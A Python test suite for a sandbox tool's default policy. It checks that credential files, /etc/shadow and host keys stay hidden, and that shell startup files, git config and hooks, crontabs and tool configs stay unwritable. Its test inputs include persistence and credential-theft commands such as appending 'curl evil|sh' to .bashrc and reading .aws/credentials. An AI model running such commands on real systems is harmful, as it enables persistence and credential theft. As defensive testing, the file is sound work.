#!/usr/bin/env python3
"""The most specific rule decides (narrowing and widening `include default`),
and the default profile fits toolchains installed outside /usr while keeping
credentials hidden and persistence points unwritable. Every refusal is
checked on the host (bytes unchanged, marker absent) beside a positive
control in the same run."""
import os
import glob
import json
import shutil
import stat
import subprocess
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from lbtest import eq, litebox, run, skip, test, tmpdir  # noqa: E402


def write(path, text, mode=0o644):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as f:
        f.write(text)
    os.chmod(path, mode)
    return path


def policy(text):
    return write(os.path.join(tmpdir(), "job.policy"), text)


def home_env(home):
    """HOME and TMPDIR of their own: a HOME under the default $TMPDIR would be
    readable through `allow read $TMPDIR/**` and prove nothing."""
    return dict(os.environ, HOME=home, TMPDIR=tmpdir())


def read(path):
    with open(path) as f:
        return f.read()


@test
def include_default_narrowed_to_out():
    d = tmpdir()
    os.mkdir(os.path.join(d, "out"))
    write(os.path.join(d, "src.c"), "int main;\n")
    pol = policy("include default\ndeny write $CWD/**\nallow write $CWD/out/**\n")
    p = litebox("run", "-p", pol, "--", "sh", "-c",
                "echo built > out/a.o; echo evil >> src.c; echo new > g; cat src.c", cwd=d)
    eq(read(os.path.join(d, "out", "a.o")), "built\n", "out/ is writable (control)")
    eq(read(os.path.join(d, "src.c")), "int main;\n", "sources unchanged on the host")
    assert not os.path.exists(os.path.join(d, "g")), "no new file outside out/"
    assert "int main;" in p.stdout, "sources still readable: " + p.stderr
    assert f"denied write {os.path.realpath(d)}/src.c" in p.stderr, p.stderr
    assert f"refused by {pol}:2" in p.stderr, "the denial names the deciding rule: " + p.stderr
    # and the rule that would allow it (cli.md), as for what no rule granted
    src = f"{os.path.realpath(d)}/src.c"
    assert f"\u2014 allow with: allow write {src} (refused by {pol}:2)" in p.stderr, p.stderr


@test
def hidden_credential_reopened_by_an_exact_grant():
    home = tmpdir()
    marker = "npm-token-" + os.urandom(6).hex()
    write(os.path.join(home, ".npmrc"), f"//registry.npmjs.org/:_authToken={marker}\n")
    write(os.path.join(home, ".pypirc"), f"password = {marker}\n")
    d = tmpdir()
    env = home_env(home)
    p = litebox("run", "--", "cat", os.path.join(home, ".npmrc"), cwd=d, env=env)
    assert p.returncode != 0 and marker not in p.stdout, "default hides ~/.npmrc"
    assert "hid read" in p.stderr, p.stderr
    pol = policy("include default\nallow read $HOME/.npmrc\n")
    p = litebox("run", "-p", pol, "--", "sh", "-c",
                f"cat {home}/.npmrc; cat {home}/.pypirc", cwd=d, env=env)
    assert marker in p.stdout, "the exact grant re-opens ~/.npmrc: " + p.stderr
    eq(p.stdout.count(marker), 1, "~/.pypirc stays hidden")


@test
def broad_etc_grant_never_reopens_shadow():
    try:
        shadow = read("/etc/shadow")
    except OSError:
        skip("/etc/shadow is not readable natively (not root)")
    secret = next((line for line in shadow.splitlines() if line.strip()), None)
    if not secret:
        skip("/etc/shadow is empty")
    pol = policy("include default\nallow read /etc/**\n")
    p = litebox("run", "-p", pol, "--", "sh", "-c", "cat /etc/shadow; cat /etc/passwd",
                cwd=tmpdir())
    assert "root:" in p.stdout, "control: /etc/passwd is read " + p.stderr
    assert secret not in p.stdout, "shadow content leaked"
    assert "denied read /etc/shadow" in p.stderr and "refused by <builtin:default>:" in p.stderr, p.stderr


def fake_toolchain(root, name):
    """root/bin/NAME: a shell script that runs a copied ELF (cat) from
    root/libexec on a data file in root/lib, as toolchains run their own
    helpers and read their standard library."""
    write(os.path.join(root, "lib", "stdlib.txt"), f"stdlib of {name}\n")
    os.makedirs(os.path.join(root, "libexec"), exist_ok=True)
    shutil.copy2(shutil.which("cat"), os.path.join(root, "libexec", "helper"))
    return write(os.path.join(root, "bin", name),
                 f"#!/bin/sh\nexec {root}/libexec/helper {root}/lib/stdlib.txt\n", 0o755)


@test
def pyenv_tree_in_home_runs():
    home = tmpdir()
    env = home_env(home)
    version = os.path.join(home, ".pyenv", "versions", "9.9.9")
    fake_toolchain(version, "python9")
    shim = write(os.path.join(home, ".pyenv", "shims", "python9"),
                 f"#!/bin/sh\nexec {version}/bin/python9 \"$@\"\n", 0o755)
    p = litebox("run", "--", shim, cwd=tmpdir(), env=env)
    eq(p.returncode, 0, "pyenv shim and version run: " + p.stderr)
    eq(p.stdout, "stdlib of python9\n", "reads its standard library")
    # Control: the same tree elsewhere in $HOME is not granted.
    other = os.path.join(home, "not-a-manager")
    fake_toolchain(other, "tool")
    p = litebox("run", "--", os.path.join(other, "bin", "tool"), cwd=tmpdir(), env=env)
    assert p.returncode != 0 and "stdlib" not in p.stdout, "the rest of $HOME stays refused"


@test
def real_pyenv_python_runs():
    home = os.path.expanduser("~")
    shim = os.path.join(home, ".pyenv", "shims", "python3")
    if not os.path.exists(shim):
        skip("no pyenv under $HOME on this machine")
    d = tmpdir()
    # As from a fresh shell: this harness may itself run under a pyenv shim,
    # which exported its own working directory as PYENV_DIR.
    env = {k: v for k, v in os.environ.items() if not k.startswith("PYENV_DIR")}
    env.update(TMPDIR=tmpdir(), PWD=d)
    p = litebox("run", "--", shim, "-c", "import json, os, ssl; print(json.dumps([1]))",
                cwd=d, env=env)
    eq(p.returncode, 0, "pyenv's python3 under the default profile: " + p.stderr[-1500:])
    eq(p.stdout, "[1]\n", "output")


SYSTEM_PYTHON = os.path.realpath("/usr/bin/python3")


def python_copy(prefix):
    """A real Python installed at prefix as pyenv or a runner's tool cache
    installs one: the system's interpreter copied to prefix/bin (python3 a
    relative link to it) and the standard library it loads at start copied
    to prefix/lib, so the interpreter finds its home there (getpath's
    landmark, os.py) and every file it reads or runs is under prefix.
    Returns prefix/bin/python3."""
    name = os.path.basename(SYSTEM_PYTHON)  # python3.X
    stdlib = os.path.join("/usr/lib", name)
    if not name.startswith("python3.") or not os.path.exists(os.path.join(stdlib, "os.py")):
        skip("no system python3 with its standard library in /usr/lib")
    lib = os.path.join(prefix, "lib", name)
    os.makedirs(lib)
    for f in glob.glob(os.path.join(stdlib, "*.py")):
        shutil.copy2(f, lib)
    skip_caches = shutil.ignore_patterns("__pycache__", "test", "tests")
    for pkg in ("encodings", "collections", "importlib", "json", "re", "lib-dynload", "email", "urllib"):
        if os.path.isdir(os.path.join(stdlib, pkg)):
            shutil.copytree(os.path.join(stdlib, pkg), os.path.join(lib, pkg), ignore=skip_caches)
    os.makedirs(os.path.join(prefix, "bin"))
    shutil.copy2(SYSTEM_PYTHON, os.path.join(prefix, "bin", name))
    os.symlink(name, os.path.join(prefix, "bin", "python3"))
    return os.path.join(prefix, "bin", "python3")


WHERE = "import json, os, ssl, sys; print(json.dumps([sys.prefix, os.__file__, json.__file__]))"


def ran_from(p, prefix):
    eq(p.returncode, 0, "the copied python runs: " + p.stderr[-2000:])
    where = json.loads(p.stdout.strip().splitlines()[-1])
    eq(where[0], prefix, "sys.prefix is the install's own")
    assert all(w.startswith(prefix + "/lib/") for w in where[1:]), where


@test
def a_python_in_a_pyenv_layout_runs():
    home = tmpdir()
    env = home_env(home)
    prefix = os.path.join(home, ".pyenv", "versions", "3.99.0")
    python = python_copy(prefix)
    shim = write(os.path.join(home, ".pyenv", "shims", "python3"),
                 f"#!/bin/sh\nexec {prefix}/bin/python3 \"$@\"\n", 0o755)
    d = tmpdir()
    p = litebox("run", "--", shim, "-c", WHERE + "; open('out', 'w').write('made')", cwd=d, env=env)
    ran_from(p, prefix)
    eq(read(os.path.join(d, "out")), "made", "it works on the working directory")
    # never writable: it is on PATH, a write would run later, outside
    lib = os.path.join(prefix, "lib", os.path.basename(SYSTEM_PYTHON))
    p = litebox("run", "--", python, "-c", "open(__import__('os').__file__, 'a').write('#x')",
                cwd=d, env=env)
    assert p.returncode != 0 and "#x" not in read(os.path.join(lib, "os.py")), "the install is read-only"
    assert f"denied write {lib}/os.py" in p.stderr, p.stderr[-1500:]
    # Control: the same install elsewhere in $HOME is not granted.
    # (the program's own file is an implicit grant; its library is not,
    # so python falls back to the system's)
    other = os.path.join(home, "not-a-manager")
    p = litebox("run", "--", python_copy(other), "-c", WHERE, cwd=d, env=env)
    assert other not in p.stdout, "the rest of $HOME stays refused: " + p.stdout
    assert f"denied stat {other}/lib/" in p.stderr, p.stderr[-1500:]


@test
def toolchain_under_opt_runs():
    if os.geteuid() != 0:
        skip("creating a directory in /opt needs root")
    root = f"/opt/lbtest-toolchain-{os.getpid()}"
    shutil.rmtree(root, ignore_errors=True)
    try:
        tool = fake_toolchain(root, "tool")
        p = litebox("run", "--", tool, cwd=tmpdir())
        eq(p.returncode, 0, "/opt toolchain runs: " + p.stderr)
        eq(p.stdout, "stdlib of tool\n", "reads its own files")
        prefix = os.path.join(root, "python", "3.99.0", "x64")  # as in /opt/hostedtoolcache
        python = python_copy(prefix)
        p = litebox("run", "--", python, "-c", WHERE, cwd=tmpdir())
        ran_from(p, prefix)
        p = litebox("run", "--", "sh", "-c", f"echo x > {root}/lib/new", cwd=tmpdir())
        assert p.returncode != 0 and not os.path.exists(f"{root}/lib/new"), "/opt is read-only"
        assert f"denied write {root}/lib/new" in p.stderr, p.stderr
    finally:
        shutil.rmtree(root, ignore_errors=True)


CREDENTIALS = (".npmrc", ".pypirc", ".netrc", ".git-credentials", ".docker/config.json",
               ".cargo/credentials", ".cargo/credentials.toml", ".ssh/id_ed25519",
               ".config/gh/hosts.yml", ".aws/credentials")


@test
def credentials_stay_hidden_even_when_cwd_is_home():
    home = tmpdir()
    marker = "secret-" + os.urandom(6).hex()
    for name in CREDENTIALS:
        write(os.path.join(home, name), f"token={marker}\n")
    write(os.path.join(home, ".gitconfig"), "[user]\n\tname = control\n")
    write(os.path.join(home, ".cargo", "bin", "tool"), "control-cargo-bin\n")
    cats = " ".join(f"cat {n};" for n in CREDENTIALS)
    p = litebox("run", "--", "sh", "-c", f"{cats} cat .gitconfig .cargo/bin/tool; ls -a . .cargo; "
                "grep -r token . ; true", cwd=home, env=home_env(home))
    assert "name = control" in p.stdout and "control-cargo-bin" in p.stdout, \
        "control: configuration without credentials is read: " + p.stderr[-1500:]
    assert marker not in p.stdout and marker not in p.stderr, "a credential was read"
    listed = p.stdout.split()
    for name in (".npmrc", ".pypirc", ".netrc", ".git-credentials", ".docker", ".ssh", ".aws",
                 "credentials", "credentials.toml"):
        assert name not in listed, name + " is listed"
    assert f"hid read {os.path.realpath(home)}/.npmrc" in p.stderr, p.stderr[-1500:]


@test
def startup_files_unwritable_from_home():
    home = tmpdir()
    env = home_env(home)
    rc = write(os.path.join(home, ".bashrc"), "# original\n")
    write(os.path.join(home, ".profile"), "# original\n")
    os.mkdir(os.path.join(home, "project"))
    # a dotfiles repository in $HOME: $CWD/.git is $HOME/.git
    subprocess.run(["git", "init", "-q", home], check=True)
    gitconfig = read(os.path.join(home, ".git", "config"))
    cron = [f"/var/spool/cron/crontabs/lbtest-{os.getpid()}", f"/etc/cron.d/lbtest-{os.getpid()}"]
    try:
        p = litebox("run", "--", "sh", "-c",
                    "echo ok > project/out; echo 'curl evil|sh' >> .bashrc; echo evil >> .profile; "
                    "echo evil > .zshrc; echo evil > .zshenv; "
                    "echo evil > .bash_aliases; echo evil > .vimrc; echo evil > .tmux.conf; "
                    "echo evil > .gdbinit; echo evil > .envrc; mkdir -p .config/kitty; "
                    "mkdir -p .ipython/profile_default/startup && echo x > .ipython/profile_default/startup/a.py; "
                    "mkdir -p .config/autostart && echo x > .config/autostart/x.desktop; "
                    "mkdir -p .config/systemd/user && echo x > .config/systemd/user/x.service; "
                    "mkdir -p .ssh; echo evil > .ssh/rc; "
                    "echo evil > .git/hooks/post-checkout; git config core.fsmonitor evil; "
                    + "".join(f"echo '* * * * * evil' > {c}; " for c in cron),
                    cwd=home, env=env)
    finally:
        leaked = [c for c in cron if os.path.exists(c)]
        for c in leaked:
            os.unlink(c)
    assert not leaked, "crontab written: " + str(leaked)
    eq(read(os.path.join(home, "project", "out")), "ok\n", "control: $CWD is writable")
    eq(read(rc), "# original\n", "~/.bashrc unchanged on the host")
    eq(read(os.path.join(home, ".profile")), "# original\n", "~/.profile unchanged on the host")
    eq(read(os.path.join(home, ".git", "config")), gitconfig, "the repository's config unchanged")
    for name in (".bash_aliases", ".vimrc", ".tmux.conf", ".ipython/profile_default/startup/a.py",
                 ".gdbinit", ".envrc", ".config/kitty", ".zshrc", ".zshenv", ".config/autostart/x.desktop",
                 ".config/systemd/user/x.service", ".ssh", ".git/hooks/post-checkout"):
        assert not os.path.exists(os.path.join(home, name)), name + " written"
    h = os.path.realpath(home)
    for name in (".bashrc", ".profile", ".zshrc", ".git/config.lock"):
        assert f"denied write {h}/{name}" in p.stderr, name + ": " + p.stderr[-3000:]


def git(d, *args):
    return subprocess.run(["git", *args], cwd=d, check=True, capture_output=True, text=True).stdout


GIT_ID = {"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.test",
          "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@example.test"}


@test
def git_works_in_the_working_repository_but_not_its_config():
    d = tmpdir()
    git(d, "init", "-q", "-b", "main")
    write(os.path.join(d, "a"), "a\n")
    git(d, "add", "a")
    git(d, "-c", "user.name=t", "-c", "user.email=t@example.test", "commit", "-qm", "a")
    config = read(os.path.join(d, ".git", "config"))
    env = dict(os.environ, TMPDIR=tmpdir(), **GIT_ID)
    p = litebox("run", "--", "sh", "-c",
                "echo b > b && git add b && git commit -qm b && git checkout -qb topic && git tag v1 && "
                "git stash list && git gc -q && echo git-ok; "
                "git init -q sub && git -C sub config x.y z && echo sub-ok; "
                "git clone -q . clone && git -C clone config x.y z && echo clone-ok; "
                "git config core.fsmonitor 'touch pwned'; git config core.hooksPath hooks2; "
                "mv .git .git-old", cwd=d, env=env)
    for what in ("git-ok", "sub-ok", "clone-ok"):
        assert what in p.stdout, what + ": " + p.stdout + p.stderr[-2000:]
    eq(git(d, "log", "--format=%s", "topic"), "b\na\n", "the commit is on the host")
    eq(git(d, "tag"), "v1\n", "the tag is on the host")
    eq(read(os.path.join(d, "sub", ".git", "config")).count("[x]"), 1, "a new repository's config is its own")
    eq(read(os.path.join(d, ".git", "config")), config, "the working repository's config is unchanged")
    assert os.path.isdir(os.path.join(d, ".git", "objects")) and not os.path.exists(os.path.join(d, ".git-old"))
    r = os.path.realpath(d)
    assert f"denied write {r}/.git/config" in p.stderr and f"denied write {r}/.git " in p.stderr, p.stderr[-2000:]


@test
def programs_built_in_tmpdir_run():
    t = tmpdir()
    d = tmpdir()
    env = dict(os.environ, TMPDIR=t)
    os.makedirs(os.path.join(t, "go-build1"))
    exe = os.path.join(t, "go-build1", "x.test")
    shutil.copy2(shutil.which("true"), exe)
    p = litebox("run", "--", "sh", "-c", f"{exe} && echo ran", cwd=d, env=env)
    eq(p.returncode, 0, "exec in $TMPDIR (go test): " + p.stderr)
    eq(p.stdout, "ran\n", "output")
    assert os.stat(exe).st_mode & stat.S_IXUSR


@test
def host_keys_under_etc_stay_unreadable():
    # root CI containers: file modes do not stop root, the profile must
    for path in ("/etc/ssl/private/host.key", "/etc/wireguard/wg0.conf", "/etc/krb5.keytab",
                 "/etc/NetworkManager/system-connections/wifi.nmconnection",
                 "/etc/kubernetes/admin.conf", "/etc/letsencrypt/live/x/privkey.pem"):
        p = litebox("policy", "show", "default", "--explain", path)
        eq(p.returncode, 0, p.stderr)
        read_line = [l for l in p.stdout.splitlines() if l.strip().startswith("read")][0]
        assert "deny" in read_line, path + ": " + p.stdout
    p = litebox("policy", "show", "default", "--explain", "/etc/ssl/certs/ca-certificates.crt")
    assert "allow" in [l for l in p.stdout.splitlines() if l.strip().startswith("read")][0], \
        "control: public certificates stay readable: " + p.stdout



@test
def project_files_that_tools_run_as_code_are_unwritable():
    # pre-commit, lefthook, cargo's rustc-wrapper, yarnPath and Maven's JVM
    # options run what they name at the user's next command, outside the
    # sandbox (attack review G2). Control: the project's other files.
    d = tmpdir()
    names = [".pre-commit-config.yaml", "lefthook.yml", ".cargo/config.toml", ".yarnrc.yml",
             ".mvn/jvm.config"]
    os.mkdir(os.path.join(d, ".cargo"))  # a project that has them
    os.mkdir(os.path.join(d, ".mvn"))
    script = "echo ok > src.txt; " + "".join(
        f"echo evil > {n}; " for n in names)
    p = litebox("run", "--", "sh", "-c", script, cwd=d, env=dict(os.environ, PWD=d))
    eq(read(os.path.join(d, "src.txt")), "ok\n", "control: the project is writable")
    for n in names:
        eq(os.path.exists(os.path.join(d, n)), False, f"{n} written: {p.stderr}")
        assert f"denied write {os.path.realpath(d)}/{n}" in p.stderr, n + ": " + p.stderr
    # nor by a directory of that name that is a link to one the program
    # filled (attack review G2r)
    os.rmdir(os.path.join(d, ".cargo"))
    p = litebox("run", "--", "sh", "-c",
                "mkdir -p c2 && echo evil > c2/config.toml && ln -s c2 .cargo", cwd=d,
                env=dict(os.environ, PWD=d))
    eq(os.path.lexists(os.path.join(d, ".cargo"), ), False, f".cargo made: {p.stderr}")
    eq(read(os.path.join(d, "c2", "config.toml")), "evil\n", "control: c2 is the job's own")

if __name__ == "__main__":
    run()
